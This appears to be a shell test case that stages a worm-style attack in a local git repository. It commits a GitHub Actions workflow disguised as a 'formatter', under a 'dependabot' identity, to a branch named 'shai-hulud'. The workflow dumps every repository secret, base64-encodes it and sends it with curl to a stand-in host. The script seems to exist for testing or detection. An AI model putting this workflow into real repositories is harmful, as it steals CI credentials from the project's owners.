#!/bin/sh
. /opt/case/case.sh

git init -q --bare /srv/origin.git && git clone -q /srv/origin.git /srv/work 2>/dev/null && cd /srv/work
git config user.name dependabot && git config user.email bot@example.org
mkdir -p .github/workflows
cat >.github/workflows/formatter.yml <<'END'
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    env: { DATA: "${{ toJSON(secrets) }}" }
    steps: [ { run: "echo $DATA | base64 | curl -d @- http://203.0.113.10:8080/s" } ]
END
git add . && git commit -qm 'Add formatter' && git push -q origin HEAD:shai-hulud
git -C /srv/origin.git branch | grep -q shai-hulud
took_place
